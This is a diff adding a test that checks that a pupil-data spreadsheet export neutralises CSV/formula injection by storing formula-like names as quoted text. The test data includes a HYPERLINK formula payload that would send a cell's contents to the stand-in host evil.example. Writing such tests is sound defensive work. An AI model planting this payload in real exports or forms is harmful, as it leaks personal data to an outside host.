@@ -188,6 +188,20 @@ class TestFullExport:
         assert 'name="full_data"' in client_for(may_reveal(cast.li)).get(class_url(cast.class_1)).content.decode()
 
 
+class TestFormulaInjection:
+    def test_names_that_start_like_formulas_are_exported_as_text(self, cast, client_for, pupil):
+        pupil.name = '=HYPERLINK("http://evil.example/?"&D4,"点击")'
+        pupil.guardian_name = "@SUM(1+1)"
+        pupil.save()
+        response = exports(may_reveal(cast.li), class_url(cast.class_1), client_for, full_data="on", reason="核对")
+        assert "<f>" not in raw_parts(response)
+        row = sheet_of(response)[4]
+        cells = {cell.value: cell for cell in row}
+        for text in (pupil.name, "@SUM(1+1)"):
+            assert cells[text].data_type == "s" and cells[text].quotePrefix
+        assert cells[1].data_type == "n"  # the row number stays a number
+
+
 class TestExportScope:
     def test_a_class_teacher_exports_their_own_class_only(self, cast, client_for, pupil):
         client = client_for(cast.wang)
